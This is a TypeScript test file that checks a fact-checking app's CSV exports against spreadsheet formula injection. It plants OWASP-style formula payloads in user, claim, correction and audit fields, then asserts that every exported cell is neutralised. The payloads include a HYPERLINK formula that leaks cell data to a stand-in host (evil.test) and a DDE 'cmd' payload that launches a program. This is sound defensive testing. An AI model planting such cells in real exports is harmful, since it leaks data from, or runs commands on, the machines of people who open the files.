// Issue 9 §7: every CSV export goes through the one writer, so no cell of any export can
// run as a spreadsheet formula, whichever column a person's text lands in.
import { randomUUID } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { parseCsv } from "@/lib/domain/csv";
import { createArticle } from "@/lib/server/articles/create-article";
import { AUDIT_EXPORT_COLUMNS, exportAuditEvents } from "@/lib/server/audit/export-audit-events";
import {
  CORRECTIONS_CSV_COLUMNS,
  correctionsToCsv,
  listArticleCorrections,
} from "@/lib/server/corrections/list-corrections";
import type { Actor } from "@/lib/server/auth/actor";
import { makeUser } from "@/tests/support/factories";

// The OWASP list of cell starts a spreadsheet evaluates, as people might type them.
const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  sum: "=1+1",
  at: "@SUM(1)",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  tab: "\t=1+1",
  cr: "\r=1+1",
};
const TRIGGER = /^[=+\-@\t\r]/;

let manager: Actor;
let author: Actor;
let articleId: string;
let claimId: string;
let seq: number;

/** Every cell of the file as a spreadsheet reads it: none may start a formula. */
function expectNoFormulaCell(csv: string) {
  const cells = parseCsv(csv, { keepApostrophes: true }).flat();
  expect(cells.length).toBeGreaterThan(0);
  expect(cells.filter((cell) => TRIGGER.test(cell))).toEqual([]);
}

beforeAll(async () => {
  manager = await makeUser("MANAGER");
  // A person whose id and name are formulas: they reach the actorId and author columns.
  author = await db.user.create({
    data: {
      id: FORMULAS.plus,
      email: `${randomUUID()}@test.claimdesk`,
      name: FORMULAS.at,
      role: "CHECKER",
      passwordHash: "not-a-hash",
    },
    select: { id: true, email: true, name: true, role: true },
  });
  const article = await createArticle({ title: "Formulas", text: "The state fell in 11 days." }, manager);
  articleId = article.id;
  claimId = FORMULAS.minus;
  await db.claim.create({
    data: {
      id: claimId,
      articleId,
      quote: FORMULAS.hyperlink,
      prefix: "",
      suffix: "",
      start: 0,
      end: 3,
      createdById: author.id,
    },
  });
  // A formula in every text column of the corrections log (the rest are dates and enums).
  await db.correction.create({
    data: {
      articleId,
      claimId,
      kind: "TEXT",
      note: FORMULAS.sum,
      before: { quote: FORMULAS.tab },
      after: { quote: FORMULAS.cr },
      authorId: author.id,
    },
  });
  await db.correction.create({
    data: {
      articleId,
      claimId,
      kind: "VERDICT",
      note: FORMULAS.hyperlink,
      before: { rating: FORMULAS.sum, rationale: "x" },
      after: { rating: FORMULAS.at, rationale: FORMULAS.minus },
      authorId: author.id,
    },
  });
  // And in every text column of the audit trail, as stored (reason is a person's text).
  const last = await db.auditEvent.findFirst({ orderBy: { seq: "desc" }, select: { seq: true } });
  seq = (last?.seq ?? 0) + 1;
  await db.auditEvent.create({
    data: {
      seq,
      actorId: author.id,
      action: FORMULAS.sum,
      articleId: FORMULAS.at,
      claimId: FORMULAS.minus,
      before: -1,
      after: FORMULAS.hyperlink,
      reason: FORMULAS.hyperlink,
      context: { ip: null, requestId: FORMULAS.sum, userAgent: FORMULAS.at },
      prevHash: FORMULAS.tab,
      hash: FORMULAS.cr,
    },
  });
});

describe("the audit CSV export", () => {
  let csv: string;
  beforeAll(async () => {
    csv = await new Response(exportAuditEvents({}, "csv", manager)).text();
  });

  it("writes no cell a spreadsheet would run as a formula", () => {
    expectNoFormulaCell(csv);
  });

  it("keeps every value, readable back exactly (so the row still re-hashes)", () => {
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...AUDIT_EXPORT_COLUMNS]);
    const row = rows.find((r) => r[0] === String(seq));
    expect(row).toEqual([
      String(seq),
      expect.any(String),
      FORMULAS.plus,
      FORMULAS.sum,
      FORMULAS.at,
      FORMULAS.minus,
      "-1",
      JSON.stringify(FORMULAS.hyperlink),
      FORMULAS.hyperlink,
      JSON.stringify({ ip: null, requestId: FORMULAS.sum, userAgent: FORMULAS.at }),
      FORMULAS.tab,
      FORMULAS.cr,
      "false",
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(",'-1,");
  });
});

describe("the corrections CSV export", () => {
  let csv: string;
  beforeAll(async () => {
    csv = correctionsToCsv(await listArticleCorrections(articleId, manager));
  });

  it("writes no cell a spreadsheet would run as a formula", () => {
    expectNoFormulaCell(csv);
  });

  it("keeps every value, readable back exactly", () => {
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual([...CORRECTIONS_CSV_COLUMNS]);
    const cell = (row: string[] | undefined, column: (typeof CORRECTIONS_CSV_COLUMNS)[number]) =>
      row?.[CORRECTIONS_CSV_COLUMNS.indexOf(column)];
    const text = rows.find((r) => cell(r, "kind") === "TEXT");
    const verdict = rows.find((r) => cell(r, "kind") === "VERDICT");
    for (const row of [text, verdict]) {
      expect(cell(row, "claim_id")).toBe(FORMULAS.minus);
      expect(cell(row, "claim_quote")).toBe(FORMULAS.hyperlink);
      expect(cell(row, "author")).toBe(FORMULAS.at);
    }
    expect(cell(text, "note")).toBe(FORMULAS.sum);
    expect(cell(text, "before")).toBe(FORMULAS.tab);
    expect(cell(text, "after")).toBe(FORMULAS.cr);
    expect(cell(verdict, "note")).toBe(FORMULAS.hyperlink);
    expect(cell(verdict, "before")).toBe(`${FORMULAS.sum}: x`);
    expect(cell(verdict, "after")).toBe(`${FORMULAS.at}: ${FORMULAS.minus}`);
  });
});
